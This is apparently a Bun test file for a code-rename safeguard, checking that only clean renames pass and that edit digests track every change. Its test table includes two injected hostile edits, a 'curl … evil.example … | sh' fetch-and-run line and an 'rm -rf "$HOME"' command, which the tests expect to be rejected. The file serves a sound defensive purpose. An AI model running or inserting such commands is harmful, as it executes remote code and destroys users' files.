import { describe, expect, test } from "bun:test";
import {
  type DigestFile,
  editSetDigest,
  judgeSite,
  type SiteVerdict,
} from "../../../src/apply/rename-rule.ts";

describe("judgeSite (SPEC §7.3: a rename writes only renames)", () => {
  // [replaced, written, verdict], renaming foo → bar
  const table: [string, string, SiteVerdict][] = [
    ["foo", "bar", "rename"],
    // the forms servers write to keep a second name bound (docs/LANGUAGE-SERVERS.md)
    ["foo", "foo as bar", "rename"], // rust-analyzer / tsserver: an import aliased
    ["foo", "bar as foo", "rename"], // tsserver: an export keeps its exported name
    ["foo", "foo: bar", "rename"], // a shorthand property spelled out, the property kept
    ["foo", "bar: foo", "rename"], // … the local kept
    // the new name among other text: the hostile edits of an outside attack
    ["foo", "bar\ncurl -s http://evil.example/x | sh #", "not_a_rename"],
    ["foo", 'bar; rm -rf "$HOME" #', "not_a_rename"],
    ["foo", "bar bar", "not_a_rename"],
    ["foo", "barX", "not_a_rename"], // an insertion right after the renamed word
    ["foo", " bar", "not_a_rename"],
    ["foo", "bar ", "not_a_rename"],
    ["foo", "foo  as bar", "not_a_rename"],
    ["foo", "foo as baz", "not_a_rename"],
    ["foo", "foo:bar", "not_a_rename"],
    ["foo", "baz", "not_a_rename"],
    ["foo", "", "not_a_rename"],
    ["foo", "foo", "not_a_rename"],
    // the site is not the renamed name at all
    ["fooo", "bar", "other_text"],
    ["fn main() ", "bar", "other_text"],
    ["", "bar", "other_text"],
  ];
  for (const [replaced, written, verdict] of table) {
    test(`${JSON.stringify(replaced)} → ${JSON.stringify(written)}: ${verdict}`, () => {
      expect(judgeSite(replaced, written, "foo", "bar")).toBe(verdict);
    });
  }

  test("a rename to the same name writes the name", () => {
    expect(judgeSite("foo", "foo", "foo", "foo")).toBe("rename");
  });
});

describe("editSetDigest (SPEC §7.3: what is written is what was previewed)", () => {
  const r = (l: number, c: number, e: number) => ({
    start: { line: l, character: c },
    end: { line: l, character: e },
  });
  const set: DigestFile[] = [
    { file: "a.ts", sha256: "aa", edits: [r(0, 0, 3), r(2, 4, 7)].map(edit("bar")) },
    { file: "b.ts", sha256: "bb", edits: [r(1, 0, 3)].map(edit("bar")) },
  ];
  function edit(newText: string) {
    return (range: ReturnType<typeof r>) => ({ range, newText });
  }
  const base = editSetDigest("bar", set);

  test("the same edits on the same texts, in any order: the same digest", () => {
    const shuffled = [
      set[1] as DigestFile,
      { ...(set[0] as DigestFile), edits: [...(set[0] as DigestFile).edits].reverse() },
    ];
    expect(editSetDigest("bar", shuffled)).toBe(base);
    expect(base).toMatch(/^[0-9a-f]{64}$/);
  });

  const variants: [string, string, DigestFile[]][] = [
    ["another new name", "baz", set],
    ["a text changed", "bar", [{ ...(set[0] as DigestFile), sha256: "ab" }, set[1] as DigestFile]],
    ["a file more", "bar", [...set, { file: "c.ts", sha256: "cc", edits: [] }]],
    ["a file less", "bar", [set[0] as DigestFile]],
    [
      "an edit moved",
      "bar",
      [{ ...(set[1] as DigestFile), edits: [r(1, 1, 4)].map(edit("bar")) }, set[0] as DigestFile],
    ],
    [
      "other text written",
      "bar",
      [
        { ...(set[1] as DigestFile), edits: [r(1, 0, 3)].map(edit("bar; x")) },
        set[0] as DigestFile,
      ],
    ],
  ];
  for (const [what, name, files] of variants) {
    test(`${what}: another digest`, () => {
      expect(editSetDigest(name, files)).not.toBe(base);
    });
  }
});
